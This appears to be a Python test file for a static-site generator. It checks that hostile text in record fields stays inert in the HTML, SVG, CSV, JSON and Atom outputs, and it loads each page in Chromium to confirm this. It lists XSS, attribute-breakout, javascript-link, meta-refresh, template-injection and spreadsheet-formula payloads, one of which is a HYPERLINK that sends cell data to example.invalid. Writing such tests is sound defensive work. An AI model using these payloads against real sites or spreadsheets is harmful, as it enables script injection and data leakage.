"""Hostile text in every text field of every record stays text, in every output.

Three trees are built from the minimal one. In the *embedded* tree each text field carries
script tags, an onerror image, a javascript: Markdown link, raw HTML and Jinja syntax inside
its text. In the *whole-value* tree the minimal tree is copied once per payload and each text
field holds one payload as its whole value, rotated over the copies so that every payload is
the whole value of every field once: a ``"`` that opens a value closes an attribute where one
inside a sentence may not. The *clean* tree has the same shape with a plain word for each
payload, so its build has exactly the elements and attributes that the templates write.

Every page and badge is opened in Chromium: no script may run, nothing may navigate or fetch
the attacker's address, and the text shows as written. The built HTML, SVG and Atom files hold
exactly the elements and attributes of the clean build. The CSV marks formulas with ``'``, the
JSON carries the text exactly and the Atom feeds parse and carry it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Callable, Iterator
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import feedparser
import pytest
import yaml

from generator.cli import main
from generator.paths import slugify
from generator.text import plain_text
from tests.browsing import CHROMIUM
from tests.conftest import AS_OF, MINIMAL, ROOT, Tree
from tests.open_data import file_text, published_records

pytestmark = pytest.mark.slow

playwright_api = pytest.importorskip("playwright.sync_api")

HOSTILE = (
    '<script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 2"> '
    "[klicka](javascript:window.__pwned=3) <b>fet</b> {{ 7 * 7 }} {% if true %}x{% endif %} :material-alert: *stjärna*"
)
HOSTILE_SHORT = "<script>window.__pwned = 1</script> <b>fet</b> {{ 7 * 7 }}"
"""For a field that allows at most 100 characters (an area names its comparison page)."""
PAYLOADS = (
    '<script>window.__pwned = "script"</script>',
    '"><img src=x onerror="window.__pwned = \'img\'">',
    '" onload="window.__pwned = \'onload\'" data-x="',
    "' autofocus onfocus='window.__pwned = \"focus\"' x='",
    '"><meta http-equiv="refresh" content="0;url=https://example.invalid/">',
    '0;url=https://example.invalid/" http-equiv="refresh" x="',
    "</title></textarea><svg onload=\"window.__pwned = 'svg'\">",
    "javascript:window.__pwned = 'href'",
    "[klicka](javascript:window.__pwned = 'md')",
    "![bild](https://example.invalid/x.png)",
    "{{ 7 * 7 }}{% if true %}x{% endif %}",
    '=HYPERLINK("https://example.invalid/?q="&A1,"y")',
    "+SUM(1;2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=2+2",
    "'citat",
    ']]></title><script>window.__pwned = "xml"</script>',
)
"""Each is tried as the whole value of every text field: script and raw HTML, attribute
breakouts with either quote (the badge's alt, the theme's meta description and feed title),
a refresh to another address, addresses and links, Jinja, spreadsheet formulas, XML breakouts."""
CLEAN = tuple(f"Ord {n}" for n in range(len(PAYLOADS)))
FORMULA = ("=", "+", "-", "@", "\t", "\r")
TEXT_FIELDS = {
    "title", "area", "name", "text", "guidance", "evidence", "heading", "earlier_finding", "earlier_action",
    "assessment", "required_action", "measure", "sample", "introduction", "provider_description", "method",
    "consequences", "organisation", "department", "unit", "website", "items", "change", "reason",
}  # fmt: skip
REFERENCES = {"provider", "requirement", "follows_up"}
FIGURE_UNITS = ("percent", "count")  # Figure.unit is an enum, Issuer.unit a text
ATTACKER = "example.invalid"

Texts = Callable[[str, str], str]
"""What a text field becomes, from its key and its value."""


def _records() -> dict[str, Any]:
    """The minimal tree, with the optional text fields it leaves out filled in, so that every text
    field of the record format is poisoned."""
    records = {s.relative_to(MINIMAL).as_posix(): yaml.safe_load(s.read_text("utf-8")) for s in MINIMAL.rglob("*.yml")}
    decision = records["followups/omsorg-ab-2023.yml"]
    decision.update(provider_description="Beskrivning", method="Metod")
    decision["issuer"]["website"] = "Webbplats"
    decision["decision"]["consequences"] = "Följder"
    decision["decision"]["deadlines"][0].update(text="Villkor", items=["Punkt"])
    return records


def _is_text(key: Any, value: Any) -> bool:
    return isinstance(value, str) and key in TEXT_FIELDS and value not in FIGURE_UNITS


def _rewrite(value: Any, text: Texts, copy: str = "", key: str = "") -> Any:
    """The record with each text field replaced by text(key, value) and each id it refers to given the
    copy's suffix (its own id is the caller's)."""
    if isinstance(value, dict):
        return {k: _rewrite(v, text, copy, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_rewrite(item, text, copy, key) for item in value]
    if _is_text(key, value):
        return text(key, value)
    if isinstance(value, str) and key in REFERENCES:
        return value + copy
    return value


def _leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], str]]:
    """Every text field of a record (or of its JSON) by its path."""
    if isinstance(value, dict):
        for key, item in value.items():
            if _is_text(key, item):
                yield (*path, key), item
            else:
                yield from _leaves(item, (*path, key))
    elif isinstance(value, list):
        for n, item in enumerate(value):
            if _is_text(path[-1], item):
                yield (*path, n), item
            else:
                yield from _leaves(item, (*path, n))


def _copies(words: tuple[str, ...]) -> dict[str, Any]:
    """One copy of the minimal tree per word; in copy c the n-th text of a record is word c + n,
    so that over all copies every text field holds every word as its whole value."""
    copies = {}
    for copy in range(len(words)):
        for relative, record in sorted(_records().items()):
            rewritten = _rewrite(record, _rotation(words, copy), f"-{copy}")
            copies[relative.replace(".yml", f"-{copy}.yml")] = {**rewritten, "id": f"{record['id']}-{copy}"}
    return copies


def _rotation(words: tuple[str, ...], first: int) -> Texts:
    """A record's texts in order: word first, first + 1 and so on, from the start after the last."""
    order = itertools.count(first)
    return lambda _key, _value: words[next(order) % len(words)]


SITE_URL = "https://kvalitet.example/"
"""The published address the hostile sites are built with (.example is reserved for examples, RFC 2606)."""


def _build(root: Path, records: dict[str, Any]) -> Path:
    tree = Tree(root / "data")
    for relative, record in records.items():
        tree.write(relative, yaml.safe_dump(record, allow_unicode=True))
    out = root / "site"
    argv = ["build", "--data", str(tree.root), "--out", str(out), "--as-of", AS_OF.isoformat()]
    # Built as published, with its address: only then does a provider page offer the badge's code.
    argv += ["--site-url", SITE_URL]
    assert main([*argv, "--config", str(ROOT / "mkdocs.yml")]) == 0
    return out


@pytest.fixture(scope="module")
def embedded_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    def embedded(key: str, _value: str) -> str:
        return f"{key}: {HOSTILE_SHORT if key == 'area' else HOSTILE}"

    records = {path: _rewrite(record, embedded) for path, record in _records().items()}
    return _build(tmp_path_factory.mktemp("embedded"), records)


@pytest.fixture(scope="module")
def whole_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _build(tmp_path_factory.mktemp("whole"), _copies(PAYLOADS))


@pytest.fixture(scope="module")
def clean_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _build(tmp_path_factory.mktemp("clean"), _copies(CLEAN))


def _flat(text: str) -> str:
    return " ".join(text.split())


def _field_occurrences() -> int:
    return sum(len(list(_leaves(record))) for record in _records().values())


def test_every_payload_is_the_whole_value_of_every_text_field() -> None:
    assert len({slugify(p) for p in PAYLOADS}) == len(PAYLOADS)  # an area each, with its own comparison page
    held: dict[tuple[Any, ...], set[str]] = {}
    for relative, record in _copies(PAYLOADS).items():
        original = relative.rsplit("-", 1)[0]
        for path, text in _leaves(record):
            held.setdefault((original, *path), set()).add(text)
    assert len(held) == _field_occurrences()
    assert {next(key for key in reversed(path) if isinstance(key, str)) for path in held} == TEXT_FIELDS
    assert all(texts == set(PAYLOADS) for texts in held.values())


def test_every_text_field_was_poisoned(embedded_site: Path) -> None:
    pages = unescape(" ".join(p.read_text(encoding="utf-8") for p in _pages(embedded_site)))
    assert [field for field in sorted(TEXT_FIELDS) if f"{field}: {HOSTILE}" not in pages] == ["area"]  # HOSTILE_SHORT


class _Elements(HTMLParser):
    """Each element by its name and the names of its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: Counter[tuple[str, tuple[str, ...]]] = Counter()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found[tag, tuple(sorted(name for name, _ in attrs))] += 1


def _elements(site: Path) -> Counter[tuple[str, tuple[str, ...]]]:
    parser = _Elements()
    for path in sorted(site.rglob("*")):
        if path.suffix in {".html", ".svg", ".xml"} and "pagefind" not in path.parts:
            parser.feed(path.read_text(encoding="utf-8"))
            parser.close()
    return parser.found


def test_no_element_or_attribute_the_templates_did_not_write(whole_site: Path, clean_site: Path) -> None:
    poisoned, clean = _elements(whole_site), _elements(clean_site)
    assert poisoned - clean == Counter(), "written by the records"
    assert clean - poisoned == Counter(), "lost to the records"


_FACTS = """() => ({
    pwned: window.__pwned ?? null,
    handlers: [...document.querySelectorAll("*")].flatMap(e =>
        e.getAttributeNames().filter(n => n.toLowerCase().startsWith("on")).map(n => `${e.tagName} ${n}`)),
    refresh: document.querySelectorAll("meta[http-equiv]").length,
    scriptLinks: [...document.querySelectorAll("[href], [src]")]
        .map(e => e.getAttribute("href") ?? e.getAttribute("src"))
        .filter(address => /^\\s*javascript:/i.test(address)),
    text: document.querySelector("article")?.innerText ?? "",
})"""


def _open_in_chromium(paths: list[Path], facts: str = _FACTS) -> tuple[dict[Path, Any], list[str]]:
    """Each path's facts after it loaded, and every problem seen: a dialog, a navigation away, a
    request to the attacker's address."""
    if not Path(CHROMIUM).exists():
        pytest.skip(f"{CHROMIUM} is missing")
    problems: list[str] = []
    found: dict[Path, Any] = {}
    with playwright_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page()
        arrived: list[str] = []
        page.on("framenavigated", lambda frame: arrived.append(frame.url) if frame == page.main_frame else None)

        def on_dialog(dialog: Any) -> None:
            problems.append(f"dialog: {dialog.message}")
            dialog.dismiss()

        def on_attacker(route: Any) -> None:
            problems.append(f"fetch: {route.request.url}")
            route.abort()

        page.on("dialog", on_dialog)
        page.route(f"**/*{ATTACKER}*", on_attacker)
        for path in paths:
            arrived.clear()
            page.goto(path.as_uri())
            page.wait_for_timeout(20)  # a refresh after 0 seconds fires right after the load
            try:
                found[path] = page.evaluate(facts)
            except playwright_api.Error as error:  # the page went away under the evaluation
                problems.append(f"{path}: {error.message.splitlines()[0]}")
            problems += [f"{path}: navigated to {url}" for url in arrived if url != path.as_uri()]
        browser.close()
    return found, problems


def _pages(site: Path) -> list[Path]:
    return sorted(p for p in site.rglob("index.html") if "pagefind" not in p.parts)


def _inert(found: dict[Path, Any]) -> list[str]:
    """What must be true of every document: nothing the records said runs or points anywhere."""
    return [
        f"{path}: {name} {facts[name]}"
        for path, facts in found.items()
        for name in ("pwned", "handlers", "refresh", "scriptLinks")
        if facts[name]
    ]


def test_embedded_text_runs_nothing_and_shows_as_written(embedded_site: Path) -> None:
    found, problems = _open_in_chromium(_pages(embedded_site))
    assert problems + _inert(found) == []
    assert sum(facts["text"].count(HOSTILE) for facts in found.values()) > 20


def test_whole_values_run_nothing_navigate_nowhere_and_show_as_written(whole_site: Path) -> None:
    badges = sorted((whole_site / "badges").glob("*.svg"))
    found, problems = _open_in_chromium(_pages(whole_site) + badges)
    assert problems + _inert(found) == []
    shown = _flat(" ".join(facts["text"] for facts in found.values()))
    assert [payload for payload in PAYLOADS if _flat(payload) not in shown] == []


_PROVIDER = """() => {
    const code = document.querySelector("article pre code").textContent;
    const pasted = new DOMParser().parseFromString(code, "text/html").body;
    return {
        heading: document.querySelector("article h1").innerText,
        title: document.title,
        description: document.querySelector('meta[name="description"]').content,
        feeds: [...document.querySelectorAll('link[rel~="feed"]')].map(link => link.title),
        alt: document.querySelector('article img[src*="badges/"]').alt,
        pasted: [...pasted.querySelectorAll("*")].map(e => [e.tagName.toLowerCase(), ...e.getAttributeNames()]),
        pastedAlt: pasted.querySelector("img")?.alt ?? "",
    };
}"""


def test_a_providers_name_stays_text_in_head_badge_and_the_code_to_paste(whole_site: Path) -> None:
    pages = {payload: whole_site / "utforare" / f"omsorg-ab-{n}" / "index.html" for n, payload in enumerate(PAYLOADS)}
    found, problems = _open_in_chromium(list(pages.values()), _PROVIDER)
    assert problems == []
    for name, path in pages.items():
        facts = found[path]
        badge = f"Kvalitetsportalen – {_flat(name)}: "
        assert _flat(facts["heading"].removesuffix("¶")) == _flat(name)
        assert _flat(facts["title"]).startswith(f"{_flat(name)} - ")
        assert _flat(facts["description"]).startswith(f"{_flat(name)}: ")
        assert [_flat(title) for title in facts["feeds"]][1:] == [_flat(f"Kvalitetsportalen: beslut om {name}")]
        assert _flat(facts["alt"]).startswith(badge)
        assert facts["pasted"] == [["a", "href"], ["img", "src", "alt", "height"]], name
        assert _flat(facts["pastedAlt"]).startswith(badge)


def _tables(site: Path) -> Iterator[tuple[str, dict[str, str], list[dict[str, str]]]]:
    """Each CSV table with its column types from the data package (unpacked where it is .gz)."""
    package = json.loads((site / "data" / "datapackage.json").read_text(encoding="utf-8"))
    for resource in package["resources"]:
        types = {field["name"]: field["type"] for field in resource["schema"]["fields"]}
        text = file_text(site / "data" / resource["path"])
        yield resource["name"], types, list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_marks_every_text_cell_a_spreadsheet_would_read_as_a_formula(whole_site: Path) -> None:
    cells = 0
    for name, types, rows in _tables(whole_site):
        for row in rows:
            assert None not in row and None not in row.values(), (name, row)  # a CR in a cell ends no row
            for column, cell in row.items():
                cells += 1
                if types[column] == "string":
                    assert not cell.startswith(FORMULA), (name, column, cell)
                elif cell and types[column] == "integer":
                    assert cell == str(int(cell)), (name, column, cell)
                elif cell and types[column] == "boolean":
                    assert cell in ("true", "false"), (name, column, cell)
                elif cell:
                    assert dt.date.fromisoformat(cell).isoformat() == cell, (name, column, cell)
    assert cells > 1000
    tables = {name: rows for name, _, rows in _tables(whole_site)}
    assert sorted(row["name"].removeprefix("'") for row in tables["utforare"]) == sorted(PAYLOADS)
    assessments = {row["assessment"].removeprefix("'") for row in tables["utfall"]}
    assert assessments == {plain_text(payload) for payload in PAYLOADS}
    raw = (whole_site / "data" / "utforare.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""https://example.invalid/?q=""&A1,""y"")"' in raw


def test_json_carries_every_text_exactly(whole_site: Path) -> None:
    published = {
        record["id"]: dict(_leaves(record))
        for kind in ("krav", "utforare", "beslut")
        for record in published_records(whole_site, kind)
    }
    compared = 0
    for record in _copies(PAYLOADS).values():
        texts = published[record["id"]]
        for path, text in _leaves(record):
            assert texts[path] == text, (record["id"], path)
            compared += 1
    assert compared == len(PAYLOADS) * _field_occurrences()


def test_atom_feeds_and_badges_parse_and_carry_the_name(whole_site: Path) -> None:
    assert not feedparser.parse((whole_site / "feeds" / "beslut.xml").read_bytes()).bozo
    svg = "{http://www.w3.org/2000/svg}title"
    for n, name in enumerate(PAYLOADS):
        feed = feedparser.parse((whole_site / "feeds" / "utforare" / f"omsorg-ab-{n}.xml").read_bytes())
        assert not feed.bozo, (name, feed.bozo_exception)
        assert _flat(feed.feed.title) == _flat(f"Kvalitetsportalen: beslut om {name}")
        assert len(feed.entries) == 2 and all(_flat(name) in _flat(entry.title) for entry in feed.entries)
        title = ET.parse(whole_site / "badges" / f"omsorg-ab-{n}.svg").getroot().findtext(svg) or ""
        assert _flat(title).startswith(_flat(f"Kvalitetsportalen – {name}: "))
